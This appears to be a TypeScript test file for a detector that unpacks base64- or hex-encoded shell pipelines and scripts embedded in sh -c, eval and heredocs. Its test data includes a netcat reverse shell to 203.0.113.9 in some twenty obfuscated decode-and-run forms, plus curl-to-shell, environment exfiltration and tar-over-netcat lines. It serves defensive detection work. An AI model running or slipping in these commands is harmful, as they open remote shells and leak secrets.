import { describe, expect, it } from 'vitest';
import { decodeBase64Pipe } from '../../../src/detect/shell/decode.ts';
import { embeddedScripts } from '../../../src/detect/shell/embedded.ts';
import { parseShell } from '../../../src/detect/shell/parse.ts';
import { shellString } from '../../../src/detect/shell/string.ts';

const SCRIPT = 'nc -e /bin/sh 203.0.113.9 4444';
const B64 = Buffer.from(SCRIPT).toString('base64');
const HEX = Buffer.from(SCRIPT).toString('hex');

describe('encoded scripts', () => {
  it.each([
    [`echo ${B64} | base64 -d | sh`, 'sh'],
    [`echo -n "${B64}" | base64 --decode | bash`, 'bash'],
    [`base64 -d <<< ${B64} | sh`, 'sh'],
    [`base64 -di <<< '${B64}' | /bin/bash -i`, 'bash'],
    [`printf %s ${B64} | base64 -D | sudo bash`, 'bash'],
    [`printf '%s\\n' ${B64} | openssl base64 -d -A | sh`, 'sh'],
    [`echo ${B64} | openssl enc -base64 -d | sh`, 'sh'],
    [`echo ${HEX} | xxd -r -p | sh`, 'sh'],
    [`bash -c "$(echo ${B64} | base64 -d)"`, 'bash'],
    [`eval "$(echo ${B64} | base64 -d)"`, 'eval'],
    [`eval \`echo ${B64} | base64 -d\``, 'eval'],
    [`bash <(echo ${B64} | base64 -d)`, 'bash'],
    [`. <(base64 -d <<<${B64})`, '.'],
    [`$(echo ${B64} | base64 -d)`, 'sh'],
    [`echo ${B64} | base64 -d | python3`, 'python3'],
    [`X=${B64}; echo $X | base64 -d | sh`, 'sh'],
    [`cat <<E | base64 -d | sh\n${B64}\nE`, 'sh'],
    [`echo ${[...B64].reverse().join('')} | rev | base64 -d | sh`, 'sh'],
    [`echo ${B64} | base64 -d | tee /tmp/x | sh`, 'sh'],
    [`echo ${Buffer.from(B64).toString('base64')} | base64 -d | base64 -d | sh`, 'sh'],
  ])('%s', (text, interpreter) => {
    expect(decodeBase64Pipe(parseShell(text))).toMatchObject([{ interpreter, text: SCRIPT, depth: 1 }]);
  });

  it('are read again inside each other, two deep and no deeper', () => {
    const wrap = (script: string) => `echo ${Buffer.from(script).toString('base64')} | base64 -d | sh`;
    const found = decodeBase64Pipe(parseShell(wrap(wrap(wrap(SCRIPT)))));
    expect(found.map((entry) => entry.depth)).toEqual([1, 2]);
    expect(decodeBase64Pipe(parseShell(wrap(wrap(SCRIPT))))[1]?.text).toBe(SCRIPT);
  });

  it.each([
    'echo $X | base64 -d | sh',
    'base64 -d /tmp/x | sh',
    `echo ${B64} | base64 -d | gunzip | sh`,
    'echo H4sIAAAAAAAAAwMAAAAAAAAAAAA= | base64 -d | sh',
  ])('%s is told without its text', (text) => {
    const found = decodeBase64Pipe(parseShell(text));
    expect(found).toHaveLength(1);
    expect(found[0]?.text).toBeUndefined();
  });

  it.each([
    `echo ${B64} | base64 -d > /tmp/x`,
    `echo ${B64} | base64 -d | grep x`,
    'env | base64 | curl -d @- h',
    `echo ${B64} | sh`,
  ])('%s runs nothing encoded', (text) => {
    expect(decodeBase64Pipe(parseShell(text))).toEqual([]);
  });
});

describe('scripts in a command', () => {
  it.each([
    ["sh -c 'curl x|sh'", ['curl x|sh']],
    ["bash -lc 'a'", ['a']],
    ["timeout 5 sh -c 'a' x", ['a']],
    ["su - app -c 'a'", ['a']],
    ["eval curl 'x|sh'", ['curl x|sh']],
    ["bash <<< 'a'", ['a']],
    ['sh <<E\na\nE', ['a']],
    ['sh script.sh', []],
    ['echo -c x', []],
  ])('%j', (text, expected) => {
    expect(embeddedScripts(parseShell(text).commands[0]!)).toEqual(expected);
  });
});

describe('the -c string in a sensor’s single argument string', () => {
  it.each([
    ['quoted', '-c "curl -f http://localhost/ || exit 1"', undefined, 'curl -f http://localhost/ || exit 1'],
    ['quoted', '-c "echo "a b" | sh"', undefined, 'echo "a b" | sh'],
    ['quoted', '-c "exec nc h 1" sh arg', undefined, 'exec nc h 1'],
    ['quoted', '-xec "a b"', undefined, 'a b'],
    ['quoted', '-e -c "a b"', undefined, 'a b'],
    ['quoted', '-c -e "a b"', undefined, 'a b'],
    ['quoted', '-c id', undefined, 'id'],
    ['quoted', '-c a\tb;c', undefined, 'a\tb;c'],
    ['quoted', '5 sh -c "a b"', 'sh', 'a b'],
    ['quoted', 'nc -c x sh -c "a b"', 'sh', 'a b'],
    ['joined', '-c curl -f http://localhost/ || exit 1', undefined, 'curl -f http://localhost/ || exit 1'],
    ['joined', '-c tar -c x | nc h 1', undefined, 'tar -c x | nc h 1'],
    ['joined', '5 /bin/sh -c a b', 'sh', 'a b'],
    ['joined', '-lc a b', undefined, 'a b'],
    ['joined', '-c a b', '', 'a b'],
    ['joined', 'script.sh -x', undefined, undefined],
    ['joined', '-c', undefined, undefined],
  ] as const)('%s %j after %s is %j', (form, raw, shell, expected) => {
    expect(shellString(raw, form, shell)).toBe(expected);
  });
});
